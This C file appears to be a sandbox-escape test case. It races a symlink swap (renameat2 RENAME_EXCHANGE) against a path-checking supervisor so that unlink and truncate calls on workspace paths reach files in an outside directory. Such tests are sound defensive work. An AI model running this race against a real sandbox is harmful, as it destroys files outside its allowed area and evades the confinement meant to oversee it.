/* symlink-swap: race a path component between the check and the use. In
 * the workspace, `d` is a real directory holding `victim`; a second thread
 * keeps swapping it (renameat2 RENAME_EXCHANGE) with `l`, a symlink to the
 * outside directory. The main thread unlinks and truncates "d/victim": a
 * supervisor that resolves the path at the stop sees a workspace file, the
 * kernel may then walk through the symlink. Bounded by ESC_TRIES. */
#include <linux/fs.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/syscall.h>
#include "../esc.h"

static atomic_bool stop;
static atomic_long swaps;

static void *swapper(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		if (syscall(__NR_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) == 0)
			atomic_fetch_add(&swaps, 1);
	return NULL;
}

int main(void)
{
	esc_start("symlink-swap");
	char *victim = esc_out("victim");
	char *victim2 = esc_out("victim2");
	if (chdir(esc_env("ESC_WS")) < 0 || mkdir("d", 0755) < 0 || symlink(esc_env("ESC_OUT"), "l") < 0) {
		esc_log("setup (mkdir d, symlink l -> outside) refused: %s", strerror(errno));
		return esc_verdict_victim(victim);
	}
	pthread_t t;
	if (pthread_create(&t, NULL, swapper, NULL) != 0)
		return 3;
	/* Start only once the swapper really runs (or visibly cannot). */
	for (int w = 0; w < 1000 && atomic_load(&swaps) < 2; w++)
		usleep(1000);
	long n = esc_tries(), i;
	/* errno histogram: EACCES beyond the supervisor's own denial lines is
	 * Landlock catching a race the tracer lost. */
	long eacces = 0, enoent = 0, other = 0;
	for (i = 0; i < n && esc_intact(victim) && esc_intact(victim2); i++) {
		int r;
		if (i % 2 == 0) {
			r = unlink("d/victim");
		} else {
			r = open("d/victim2", O_WRONLY | O_TRUNC);
			if (r >= 0)
				close(r);
		}
		if (r >= 0)
			continue;
		if (errno == EACCES)
			eacces++;
		else if (errno == ENOENT)
			enoent++;
		else
			other++;
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	esc_log("%ld tries, %ld swaps; EACCES %ld, ENOENT %ld, other errors %ld", i, atomic_load(&swaps),
	        eacces, enoent, other);
	if (!esc_intact(victim2))
		return ESC_BREACH;
	return esc_verdict_victim(victim);
}
